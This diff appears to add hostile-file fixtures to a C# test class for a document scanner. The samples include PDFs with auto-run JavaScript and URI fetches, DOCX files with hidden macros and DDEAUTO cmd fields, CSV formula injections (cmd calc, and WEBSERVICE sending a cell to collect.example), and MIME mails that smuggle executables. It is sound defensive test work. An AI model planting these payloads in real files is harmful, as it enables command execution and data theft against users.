@@ -18,7 +18,7 @@ internal static class HostileFiles
 
     /// <summary>All of them, by name.</summary>
     public static IReadOnlyDictionary<string, (ProblemCode Code, byte[] Bytes)> All { get; } =
-        Pdfs().Concat(Packages()).Concat(Pictures()).Concat(Texts()).Concat(Others()).Concat(Mails())
+        Pdfs().Concat(PdfsByTheirTables()).Concat(Packages()).Concat(PackagesByContent()).Concat(Pictures()).Concat(Texts()).Concat(Others()).Concat(Mails())
             .ToDictionary(f => f.Name, f => (f.Code, f.Bytes));
 
     private static IEnumerable<(string Name, ProblemCode Code, byte[] Bytes)> Pdfs()
@@ -50,6 +50,58 @@ internal static class HostileFiles
         yield return ("pdf with a program behind", ProblemCode.F16, [.. good, .. "MZ"u8, .. new byte[4000]]);
         yield return ("pdf behind other bytes", ProblemCode.F10, [1, 2, 3, .. good]);
     }
+
+    private static IEnumerable<(string Name, ProblemCode Code, byte[] Bytes)> PdfsByTheirTables()
+    {
+        const string Script = "<< /S /JavaScript /JS <6170702e62656570283029> >>";
+        Pdf Opening() => new Pdf().Page("").Catalog("/OpenAction 6 0 R");
+        yield return ("pdf with a script in a comment", ProblemCode.F11, Opening().AddHidden("% ", Script, "").Bytes());
+        yield return ("pdf with a script in a string", ProblemCode.F11, Opening().AddHidden("(", Script, ")").Bytes());
+        yield return ("pdf with a script in the data of a stream", ProblemCode.F11,
+            Opening().AddHidden("99 0 obj << /Length 90 >> stream\n", Script, "\nendstream endobj").Bytes());
+        yield return ("pdf with a script in a predicted object stream", ProblemCode.F11, PackedPdf.ScriptInDifferences());
+        yield return ("pdf that fetches when it opens", ProblemCode.F11,
+            new Pdf().Page("").Catalog("/OpenAction << /S /URI /URI (https://collect.example/) >>").Bytes());
+        yield return ("pdf that fetches behind a turn of the page", ProblemCode.F11,
+            new Pdf().Page("").Catalog("/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://x.example/) >> >>").Bytes());
+        yield return ("pdf that fetches when a page is shown", ProblemCode.F11,
+            new Pdf().Page("").Catalog("/AA << /O << /S /URI /URI (https://collect.example/) >> >>").Bytes());
+        foreach (var action in new[] { "SubmitForm", "ImportData", "GoToR", "GoToE", "Rendition", "Movie" })
+            yield return ($"pdf with the action {action}", ProblemCode.F11,
+                new Pdf().Page("").Add($"<< /S /{action} /F (//files.example/a) >>").Bytes());
+        yield return ("pdf with a file in it that does not say its type", ProblemCode.F11,
+            new Pdf().Page("").Add("<< /F (a.exe) /EF << /F 7 0 R >> >>").AddStream("", [1, 2]).Bytes());
+    }
+
+    private static IEnumerable<(string Name, ProblemCode Code, byte[] Bytes)> PackagesByContent()
+    {
+        const string Relationships = "word/_rels/document.xml.rels";
+        Package Related(string type, string target) => Package.Docx("x").Part(Relationships, Package.Relations(type, target));
+        yield return ("docx with macros under another name", ProblemCode.F11, Related("vbaProject", "colours.dat").Bytes());
+        yield return ("docx with a page as a chunk", ProblemCode.F11,
+            Related("aFChunk", "part.dat").Part("word/part.dat", "<html><script>1</script></html>").Bytes());
+        yield return ("docx with a workbook to click on", ProblemCode.F11,
+            Related("package", "embeddings/book.xlsx").Part("word/embeddings/book.xlsx", Package.Xlsx("a").Bytes()).Bytes());
+        yield return ("docx with a chart of macros", ProblemCode.F11,
+            Package.Docx("x").Part("word/charts/_rels/chart1.xml.rels", Package.Relations("package", "../embeddings/book.xlsx"))
+                .Part("word/embeddings/book.xlsx", Package.Xlsx("a").Part("xl/vbaProject.bin", [1]).Bytes()).Bytes());
+        foreach (var (name, field) in new[]
+        {
+            ("in CDATA", "<w:instrText><![CDATA[ DDEAUTO cmd \"/c\" ]]></w:instrText>"),
+            ("behind a long one", $"<w:instrText> SEQ a {new string('b', 1_000_001)}</w:instrText>{Mark("end")}{Mark("begin")}<w:instrText> DDE cmd</w:instrText>"),
+            ("that another field writes", $"{Mark("begin")}<w:instrText> QUOTE 68 68 69 </w:instrText>{Mark("end")}"),
+            ("that fetches a picture", "<w:instrText> INCLUDEPICTURE \"https://collect.example/p.png\" </w:instrText>"),
+        })
+            yield return ($"docx with a field {name}", ProblemCode.F11,
+                Package.Docx("x").Part("word/document.xml", $"""<w:document xmlns:w="urn:w">{Mark("begin")}{field}{Mark("end")}</w:document>""").Bytes());
+        yield return ("docx whose document is called otherwise", ProblemCode.F11,
+            Package.Docx("x").Part("word/document.dat", """<w:document xmlns:w="urn:w"><w:instrText> DDE cmd</w:instrText></w:document>""").Bytes());
+        yield return ("odt locked with a password", ProblemCode.F13,
+            Package.Odt("x").Part("content.xml", [9, 200, 3, 77]).Part("META-INF/manifest.xml",
+                """<m:manifest xmlns:m="urn:m"><m:encryption-data/></m:manifest>""").Bytes());
+    }
+
+    private static string Mark(string type) => $"""<w:fldChar w:fldCharType="{type}"/>""";
 
     private static IEnumerable<(string Name, ProblemCode Code, byte[] Bytes)> Packages()
     {
@@ -148,6 +200,14 @@ internal static class HostileFiles
         yield return ("shortcut to the web", ProblemCode.F12, "[InternetShortcut]\r\nURL=file://evil.example/x\r\n"u8.ToArray());
         yield return ("csv that starts a program", ProblemCode.F11, "a,b\n=cmd|'/c calc'!A0,2\n"u8.ToArray());
         yield return ("csv that starts a program, quoted", ProblemCode.F11, "a;b\n\"+cmd|'/c calc'!A0\";2\n"u8.ToArray());
+        yield return ("csv that starts a program at the end of a piece", ProblemCode.F11,
+            Encoding.ASCII.GetBytes($"a,b\n{new string('x', (64 * 1024) - 8)}\n=cmd|'/c calc'!A0\n"));
+        foreach (var formula in new[] { "=WEBSERVICE(\"https://collect.example/\"&B1)", "+HYPERLINK(\"https://x.example\",\"a\")", "=DDE(\"cmd\";\"/c\")" })
+            yield return ($"csv with {formula[1..5]}", ProblemCode.F11, Encoding.ASCII.GetBytes($"Name,Phone\r\nA,{formula}\r\n"));
+        yield return ("json cut off", ProblemCode.F18, "{\"state\":\"XAA\",\"telepho"u8.ToArray());
+        yield return ("json with two values for one name", ProblemCode.F16, "{\"a\":1,\"b\":{\"a\":1},\"a\":2}"u8.ToArray());
+        yield return ("json too deep", ProblemCode.F15,
+            Encoding.ASCII.GetBytes($"{string.Concat(Enumerable.Repeat("{\"a\":", 70))}1{new string('}', 70)}"));
         yield return ("text with a zip behind", ProblemCode.F10, [.. "A note.\n"u8, .. new Package().Part("a", "x").Bytes()]);
         yield return ("bytes", ProblemCode.F10, [.. Enumerable.Range(0, 5000).Select(i => (byte)(i * 31 % 251))]);
         yield return ("nothing", ProblemCode.F18, []);
@@ -181,6 +241,14 @@ internal static class HostileFiles
             Mail("octet-stream", Package.Docx("x").Part("word/vbaProject.bin", [1]).Bytes()));
         yield return ("mail in a mail in a mail in a mail", ProblemCode.F15,
             Enumerable.Range(0, 4).Aggregate("x"u8.ToArray(), (inner, _) => Mail("octet-stream", inner)));
+        yield return ("mail with a program in quoted-printable", ProblemCode.F12, Mail("octet-stream", "=4D=5A=90=00=03=00=00=00"u8.ToArray(), "quoted-printable"));
+        yield return ("mail with a program as it is", ProblemCode.F12, Mail("octet-stream", "#!/bin/sh\nexit"u8.ToArray(), "8bit"));
+        yield return ("mail with a program behind a comment", ProblemCode.F12,
+            Mail("octet-stream", Encoding.ASCII.GetBytes(Convert.ToBase64String([.. "MZ"u8, .. new byte[50]])), "(as usual) base64"));
+        yield return ("mail with a program between other letters", ProblemCode.F12,
+            Mail("octet-stream", Encoding.ASCII.GetBytes($"TV\r\n!!\r\n{Convert.ToBase64String([.. "MZ"u8, .. new byte[50]])[2..]}"), "base64"));
+        yield return ("mail with a program by a name in pieces", ProblemCode.F12,
+            Mail("octet-stream; name*0=\"note.e\"; name*1=\"xe\"", "x"u8.ToArray()));
         yield return ("mail with broken base64", ProblemCode.F18,
             Encoding.ASCII.GetBytes(Head + "Content-Transfer-Encoding: base64\r\n\r\n%%%\r\n"));
     }
@@ -192,6 +260,15 @@ internal static class HostileFiles
         $"{Head}Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nPlease find a note.\r\n--b\r\n"
         + $"Content-Type: application/{type}\r\nContent-Transfer-Encoding: base64\r\n\r\n"
         + $"{Convert.ToBase64String(attachment, Base64FormattingOptions.InsertLineBreaks)}\r\n--b--\r\n");
+
+    /// <summary>The same, in an encoding that is already done.</summary>
+    public static byte[] Mail(string type, byte[] body, string encoding) =>
+    [
+        .. Encoding.ASCII.GetBytes(
+            $"{Head}Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: application/{type}\r\n"
+            + $"Content-Transfer-Encoding: {encoding}\r\n\r\n"),
+        .. body, .. "\r\n--b--\r\n"u8,
+    ];
 
     // The directory's last entry points at the first one's bytes.
     private static byte[] Overlapping(byte[] zip)
